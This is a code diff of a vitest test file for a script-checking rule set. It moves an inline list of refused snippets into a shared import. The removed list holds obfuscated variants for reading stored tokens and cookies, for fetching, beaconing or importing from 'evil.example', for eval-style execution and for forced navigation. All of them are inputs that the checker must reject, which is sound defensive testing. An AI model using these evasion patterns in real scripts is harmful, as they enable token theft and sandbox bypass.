@@ -1,5 +1,6 @@
 import { describe, expect, it } from 'vitest'
 import { builtFixture } from '../../tests/fixture-apps.ts'
+import { refusedScripts } from '../../tests/mistakes.ts'
 import { refusalsOf } from '../../tests/refusals-of.ts'
 
 const refusalsFor = (script: string) =>
@@ -9,105 +10,7 @@ const refusalsFor = (script: string) =>
     return `${rule}: ${says}`
   })
 
-/** Each way is tried word for word; what is listed is refused by the rule that stands above it. */
-const refused: Readonly<Record<string, readonly string[]>> = {
-  'own-storage': [
-    'localStorage.getItem("adcoin.token")',
-    'window["local"+"Storage"].getItem(k)',
-    'const n="local";globalThis[`${n}Storage`].clear()',
-    'const {["localStorage"]:s}=window;s.clear()',
-    'store.get("adcoin."+"token")',
-    'const p="adcoin",k=`${p}.token`;store.get(k)',
-    'document["coo"+"kie"]="a=b"',
-    'el.ownerDocument.cookie',
-  ],
-  'own-hosts': [
-    'fetch("https://evil.example/x")',
-    'fetch("//evil.example/x")',
-    'fetch(address)',
-    'fetch("/"+path)',
-    'window["fe"+"tch"]("https://evil.example")',
-    'const {fetch:f}=self;f("https://evil.example")',
-    'const f=fetch;f("https://evil.example")',
-    'fetch.call(null,"https://evil.example")',
-    'Reflect.apply(fetch,null,["https://evil.example"])',
-    'let u="/app/x";u="https://evil.example";fetch(u)',
-    'fetch(new URL("https://evil.example",import.meta.url))',
-    'function f(a=fetch("https://evil.example")){var fetch;return a}',
-    'function f(){{let fetch=1}return fetch("https://evil.example")}',
-    'new XMLHttpRequest',
-    'new WebSocket("wss://evil.example")',
-    'navigator.sendBeacon("https://evil.example",x)',
-    'new RTCPeerConnection',
-    'import("https://evil.example/x.js")',
-    'import(where)',
-    'import "https://evil.example/x.js"',
-  ],
-  'no-evaluation': [
-    'eval("1")',
-    '(0,eval)("1")',
-    'window.eval?.("1")',
-    'const {eval:e}=window',
-    'new Function("return 1")',
-    'Function("return this")()',
-    'const F=Function',
-    'Function.prototype.constructor("1")',
-    'setTimeout("alert(1)",1)',
-    'setTimeout(`a(${x})`)',
-    'window.setInterval("a"+"()",9)',
-    'const c="alert(1)";setTimeout(c)',
-    'const s=setTimeout;s("alert(1)")',
-    'a.href="javascript:alert(1)"',
-    'trustedTypes.createPolicy("x",{})',
-  ],
-  'document-stays': [
-    'document.open()',
-    'document.write("x")',
-    'document["wri"+"te"]("x")',
-    'window.document.writeln("x")',
-    'const {document:d}=window;d.open()',
-    'el.ownerDocument.open()',
-    'frame.contentDocument.write("x")',
-    '[document].map(d=>d.open())',
-    'document[name]()',
-    'frame.srcdoc="<p>"',
-    'frame.setAttribute("srcdoc","<p>")',
-    'jsx(tag,{srcDoc:html})',
-    'document.createElement("script")',
-    'document.createElement("iframe")',
-    'document.createElement(tag)',
-  ],
-  'location-stays': [
-    'location="/x"',
-    'location.href="/x"',
-    'window["loc"+"ation"].href="/x"',
-    'document.location="/x"',
-    'location.assign("/x")',
-    'location[name]("/x")',
-    'location.reload()',
-    'const l=location;l.href="/x"',
-    'const {location:l}=window',
-    '[location.href]=["/x"]',
-    'Object.assign(location,{href:"/x"})',
-    '(a||location).href="/x"',
-    'open("/x","_self")',
-    'navigation.navigate("/x")',
-    'el.ownerDocument.defaultView.location="/x"',
-    'function f(){{let location={}}location.href="/x"}',
-  ],
-  'plain-globals': [
-    'const w=window;w.location="/x"',
-    'use(self)',
-    'export{window as w}',
-    'let w;w=top',
-    'window[name]("1")',
-    'Reflect.get(window,name)',
-    'const {defaultView:v}=el.ownerDocument',
-    'use(frame.contentWindow)',
-  ],
-}
-
-describe.each(Object.entries(refused))('%s: a script is refused that says', (rule, scripts) => {
+describe.each(Object.entries(refusedScripts))('%s: a script is refused that says', (rule, scripts) => {
   it.each(scripts)('%s', script => {
     expect(refusalsFor(script).map(each => each.split(':')[0])).toContain(rule)
   })
